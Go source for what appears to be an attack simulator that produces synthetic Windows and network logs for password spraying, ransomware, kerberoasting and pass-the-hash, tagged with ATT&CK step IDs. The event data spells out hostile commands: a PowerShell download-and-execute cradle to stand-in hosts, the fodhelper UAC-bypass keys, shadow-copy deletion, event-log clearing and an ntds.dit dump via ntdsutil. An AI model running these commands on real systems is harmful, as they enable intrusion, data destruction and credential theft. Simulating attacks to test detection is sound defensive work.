package simulate

import (
	"encoding/base64"
	"fmt"
	"unicode/utf16"
)

var _ = campaign(Campaign{
	Name:  "password-spray",
	Title: "One password is tried on every domain account; one has it",
	Run: func(k *attack) {
		w, dc := k.w, k.w.dc
		k.host(dc)
		k.tells("dc1/security")
		// From within: devices on the guest network, 10.20.200.0/24.
		for i := range k.from {
			k.from[i] = fmt.Sprintf("10.20.200.%d", 20+i+int(k.rng.below(30)))
		}
		victim := w.of(&k.rng, office)
		k.step("T1110.003", "spray", "tries a password on each account")
		name := "DESKTOP-" + fmt.Sprintf("%07X", k.rng.next()>>36)
		var hit string
		for _, p := range w.people {
			from := k.source()
			if p == victim {
				hit = from
				continue // last, so that the truth does not hang on the order
			}
			dc.ntlm(k.actor, p.name, name, wrongPassword)
			dc.logOnFails(k.actor, p.name, 3, wrongPassword, from, name)
			k.lull(400*msec, 3*second)
		}
		for _, user := range []string{"administrator", "backup", "scanner", "test", "svc-sql"} {
			from := k.source()
			sub := noSuchUser
			if user == "administrator" || user == "svc-sql" {
				sub = wrongPassword
			}
			dc.ntlm(k.actor, user, name, sub)
			dc.logOnFails(k.actor, user, 3, sub, from, name)
			k.lull(400*msec, 3*second)
		}
		k.step("T1078.002", "login", "logs on as %s", victim.name)
		k.user(victim.name)
		dc.ntlm(k.actor, victim.name, name, "0x0")
		s := dc.logOn(k.actor, victim.target(), 3, true, hit, name, false)
		k.succeeds()
		k.fact("access", victim.name, "a session as %s on dc1 from %s", victim.name, hit)
		k.pause(20*second, 4*minute)
		k.step("T1135", "shares", "looks at the shares")
		s.openShare(k.actor, hit, "IPC$", "")
		for _, share := range []string{"SYSVOL", "NETLOGON", "Projects"} {
			k.pause(second, 9*second)
			s.openShare(k.actor, hit, share, `\??\C:\Shares\`+share)
		}
		k.step("T1039", "files", "reads files of the projects")
		port := clientPort(k.actor)
		for range k.between(10, 40) {
			s.readFile(k.actor, hit, port, "Projects", `\??\D:\Projects`, document(&k.rng))
			k.pause(300*msec, 4*second)
		}
		k.fact("data-read", "Projects", "files of the share Projects were read")
		s.logOff(k.actor)
	},
})

var _ = campaign(Campaign{
	Name:  "ransomware-windows",
	Title: "A document's macro fetches ransomware, which deletes the shadow copies, clears the logs and encrypts files",
	Run: func(k *attack) {
		w, h := k.w, k.w.ws
		p := h.windows.owner
		k.host(h)
		k.user(p.name)
		k.tells("ws01/sysmon")
		// Someone has to open the mail: wait for a working hour.
		for h.windows.explorer == nil || w.now > w.end-2*hour && w.now < w.end-90*minute {
			k.wait(7 * minute)
		}
		a := k.actor
		shell := h.windows.explorer
		user := `C:\Users\` + p.name
		const ps = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`

		k.step("T1566.001", "document", "%s opens a document that came by mail", p.name)
		doc := user + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + fmt.Sprintf("%08X", k.rng.next()>>32) + `\Invoice_` + fmt.Sprint(1000+k.rng.below(9000)) + `.docm`
		office := shell.start(a, word, `"`+word+`" /n "`+doc+`" /o ""`)
		k.pause(5*second, 20*second)

		k.step("T1059.001", "macro", "its macro starts PowerShell with an encoded command")
		c2 := k.source()
		name := pick(&k.rng, []string{"cdn-update.example.net", "files-sync.example.org", "static-assets.example.net"})
		script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')", name)
		shellcode := office.start(a, ps, "powershell.exe -nop -w hidden -enc "+encodedCommand(script))
		k.pause(400*msec, 2*second)
		shellcode.powerShell(a, script, "", true)

		k.step("T1105", "download", "which downloads the program from %s", c2)
		shellcode.looksUp(a, name, c2)
		f := shellcode.connects(a, c2, name, 80)
		w.sensor.http(a, &f, &webRequest{host: name, method: "GET", url: "/a.ps1", agent: "", status: 200, length: 4211, mime: "text/plain"})
		k.pause(second, 3*second)
		w.sensor.http(a, &f, &webRequest{host: name, method: "GET", url: "/update.bin", agent: "", status: 200, length: 873_472, mime: "application/octet-stream", tx: 1})
		image := user + `\AppData\Local\Temp\` + pick(&k.rng, []string{"winupd.exe", "msdtcv.exe", "OneDriveSvc.exe"})
		shellcode.creates(a, image)
		w.sensor.close(a, &f)
		k.pause(2*second, 9*second)

		k.step("T1204.002", "run", "and runs it")
		bad := shellcode.start(a, image, `"`+image+`"`)
		k.pause(2*second, 30*second)
		k.succeeds()
		k.fact("execution", image, "%s ran on ws01 as %s", image, p.name)

		k.step("T1547.001", "autostart", "it starts itself at every logon")
		bad.sets(a, `HKU\`+p.sid()+`\Software\Microsoft\Windows\CurrentVersion\Run\WinUpd`, image)
		k.fact("persistence", "Run key", "a Run key starts %s", image)

		k.step("T1033", "discovery", "looks who it is and who else there is")
		run := func(parent *process, image, command string, takes int64) {
			c := parent.start(a, image, command)
			k.pause(takes/2, takes)
			c.end(a)
		}
		run(bad, `C:\Windows\System32\whoami.exe`, "whoami /all", second)
		run(bad, `C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`, 2*second)
		k.pause(minute, 6*minute)

		k.step("T1548.002", "elevate", "passes user account control with fodhelper")
		bad.sets(a, `HKU\`+p.sid()+`_Classes\ms-settings\Shell\Open\command\(Default)`, image)
		bad.sets(a, `HKU\`+p.sid()+`_Classes\ms-settings\Shell\Open\command\DelegateExecute`, "(Empty)")
		high := *shell.logon
		high.id, high.high = h.windows.newLUID(a), true
		fod := bad.startAs(a, &high, "High", `C:\Windows\System32\fodhelper.exe`, `"C:\Windows\system32\fodhelper.exe"`)
		k.pause(500*msec, second)
		root := fod.start(a, image, `"`+image+`"`)
		fod.end(a)
		k.fact("privilege", p.name, "the program runs elevated")
		k.pause(10*second, minute)

		k.step("T1490", "recovery", "deletes the shadow copies and turns recovery off")
		run(root, `C:\Windows\System32\vssadmin.exe`, "vssadmin.exe delete shadows /all /quiet", 3*second)
		run(root, `C:\Windows\System32\wbem\WMIC.exe`, "wmic.exe shadowcopy delete", 3*second)
		run(root, `C:\Windows\System32\bcdedit.exe`, "bcdedit.exe /set {default} recoveryenabled no", second)
		run(root, `C:\Windows\System32\bcdedit.exe`, "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures", second)
		k.fact("recovery-destroyed", "shadow copies", "the shadow copies were deleted")
		h.service(a, "Volume Shadow Copy", "VSS", "running")

		k.step("T1486", "encrypt", "encrypts the user's files")
		extension := pick(&k.rng, []string{".locked", ".crypt", ".enc0"})
		files := k.between(200, 700)
		for range files {
			file := document(&k.rng)
			root.creates(a, user+`\Documents\`+file+extension)
			k.pause(5*msec, 60*msec)
		}
		root.creates(a, user+`\Desktop\HOW_TO_RECOVER_FILES.txt`)
		k.fact("data-encrypted", "files", "%d files of %s were encrypted", files, p.name)

		k.step("T1070.001", "clear", "clears the event logs")
		run(root, `C:\Windows\System32\wevtutil.exe`, "wevtutil.exe cl System", second)
		shell.logon.clearLog(a, h.system)
		run(root, `C:\Windows\System32\wevtutil.exe`, "wevtutil.exe cl Security", second)
		high.clearLog(a, h.security)
		k.fact("logs-destroyed", "Security and System", "the logs Security and System of ws01 were cleared")
		shellcode.end(a)
	},
})

// encodedCommand is Base64 of UTF-16, as powershell -EncodedCommand wants it.
func encodedCommand(script string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(script)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

var _ = campaign(Campaign{
	Name:  "kerberoasting",
	Title: "A user's session asks for the tickets of all service accounts, to guess their passwords offline",
	Run: func(k *attack) {
		w, dc, a := k.w, k.w.dc, k.actor
		p := w.of(&k.rng, office)
		k.host(dc)
		k.user(p.name)
		k.tells("dc1/security")
		add(&k.truth.Sources, p.address)
		k.step("T1558.003", "tickets", "asks for service tickets with RC4")
		dc.tgt(a, p.target(), p.address)
		services := []string{"svc-sql", "svc-backup", "svc-web", "svc-sharepoint", "svc-scan", "svc-print", "svc-jenkins", "svc-monitor", "svc-ldap", "svc-exchange", "svc-vmware", "svc-erp"}
		for _, s := range services[:k.between(6, 13)] {
			dc.ticket(a, p.target(), p.address, s, "0x17")
			k.succeeds()
			k.lull(20*msec, 400*msec)
		}
		k.fact("credentials", "service accounts", "tickets of service accounts were taken")
	},
})

var _ = campaign(Campaign{
	Name:  "pass-the-hash",
	Title: "An admin's stolen hash opens the domain controller, where a service is installed to run commands",
	Run: func(k *attack) {
		w, dc, a := k.w, k.w.dc, k.actor
		victim := w.of(&k.rng, admin)
		origin := w.of(&k.rng, office)
		k.host(dc)
		k.user(victim.name)
		k.tells("dc1/security")
		add(&k.truth.Sources, origin.address)
		k.step("T1550.002", "hash", "logs on to dc1 as %s with NTLM from %s", victim.name, origin.machine)
		dc.ntlm(a, victim.name, origin.machine, "0x0")
		s := dc.logOn(a, victim.target(), 3, true, origin.address, origin.machine, true)
		k.succeeds()
		k.fact("access", victim.name, "a session as %s on dc1 from %s", victim.name, origin.address)
		k.pause(20*msec, 300*msec)
		k.step("T1021.002", "share", "copies a program to the administrative share")
		s.openShare(a, origin.address, "IPC$", "")
		s.openShare(a, origin.address, "ADMIN$", `\??\C:\Windows`)
		name := "PSEXESVC"
		image := `%SystemRoot%\PSEXESVC.exe`
		if k.rng.chance(600) {
			b := make([]byte, 8)
			for i := range b {
				b[i] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"[k.rng.below(52)]
			}
			name = string(b[:4])
			image = `%systemroot%\` + string(b) + `.exe`
		}
		s.readFile(a, origin.address, clientPort(a), "ADMIN$", `\??\C:\Windows`, image[13:])
		k.pause(50*msec, 500*msec)
		k.step("T1569.002", "service", "and runs it as a service")
		dc.system.event(a.mark, serviceNew, dc.windows.scm, dc.windows.scm+700, victim.sid(), name, image, "user mode service", "demand start", "LocalSystem")
		dc.service(a, name, name, "running")
		system := &process{h: dc, logon: dc.localSystem(), parent: dc.windows.services, image: `C:\Windows` + image[12:], command: `C:\Windows` + image[12:], integrity: "System"}
		system.number(dc.time())
		dc.windows.services.start(a, system.image, system.image)
		k.fact("execution", name, "commands ran on dc1 as SYSTEM")
		shell := system.start(a, `C:\Windows\System32\cmd.exe`, "cmd.exe")
		k.pause(10*second, minute)
		k.step("T1003.003", "dump", "copies the directory's database")
		shell.start(a, `C:\Windows\System32\ntdsutil.exe`, `ntdsutil "ac i ntds" "ifm" "create full c:\windows\temp\ifm" q q`)
		k.fact("credentials", "ntds.dit", "the directory's database was copied")
		k.pause(minute, 4*minute)
		dc.service(a, name, name, "stopped")
		s.logOff(a)
	},
})
